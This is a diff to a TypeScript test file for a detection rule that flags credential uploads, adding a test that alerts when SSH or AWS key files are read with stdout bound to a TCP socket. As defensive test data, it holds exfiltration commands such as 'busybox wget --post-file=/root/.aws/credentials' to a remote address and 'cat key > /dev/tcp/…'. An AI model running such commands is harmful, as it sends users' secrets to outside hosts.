@@ -1,6 +1,19 @@
 import { test } from 'node:test';
 import assert from 'node:assert/strict';
-import { builtinEngine, connect, exec, exeReference, exeReport } from '../testing.js';
+import type { StdioFdV1 } from '@vigil/schema';
+import {
+  builtinEngine,
+  connect,
+  exec,
+  execWithStdio,
+  exeReference,
+  exeReport,
+  fileFd,
+  pipeFd,
+  tcpFd,
+  ttyFd,
+  ttyStdio,
+} from '../testing.js';
 import { sentFiles } from './cred-upload.js';
 
 const RULE = 'cred.upload';
@@ -97,4 +110,27 @@ test('cred.upload: busybox wget posting a credential file', () => {
     run(['busybox', 'wget', '--post-file=/root/.aws/credentials', 'http://203.0.113.7/']).map(([s]) => s),
     ['critical'],
   );
+});
+
+test('cred.upload: a credential file read with stdout a socket (cat key > /dev/tcp/…) raises, whatever reads it; a key read to a terminal, a pipe or a file does not', () => {
+  const sent = (argv: string[], stdio: StdioFdV1[]) => {
+    const { engine, alerts } = builtinEngine();
+    engine.process([execWithStdio(argv, stdio)]);
+    return alerts.filter((a) => a.ruleId === RULE).map((a) => [a.severity, a.reason] as const);
+  };
+  const far = sent(['cat', '/home/u/.ssh/id_rsa'], [ttyFd(0), tcpFd(1, '203.0.113.9:443'), ttyFd(2)]);
+  assert.equal(far[0]?.[0], 'critical');
+  assert.match(
+    far[0]![1],
+    /reads credential file \/home\/u\/\.ssh\/id_rsa with its stdout a tcp socket to 203\.0\.113\.9:443/,
+  );
+  assert.equal(
+    sent(['kworker', '-w0', '/home/u/.aws/credentials'], [ttyFd(0), tcpFd(1, '127.0.0.1:9000'), ttyFd(2)])[0]?.[0],
+    'high',
+  );
+  for (const stdio of [ttyStdio(), [ttyFd(0), pipeFd(1, 7), ttyFd(2)], [ttyFd(0), fileFd(1), ttyFd(2)]])
+    assert.deepEqual(sent(['cat', '/home/u/.ssh/id_rsa'], stdio), []);
+  // A socket on stdout without a credential: a health check's output, metrics to a collector.
+  assert.deepEqual(sent(['cat', 'metrics.json'], [ttyFd(0), tcpFd(1, '203.0.113.9:443'), ttyFd(2)]), []);
+  assert.deepEqual(sent(['cat', '/home/u/.ssh/id_rsa.pub'], [ttyFd(0), tcpFd(1, '203.0.113.9:443'), ttyFd(2)]), []);
 });
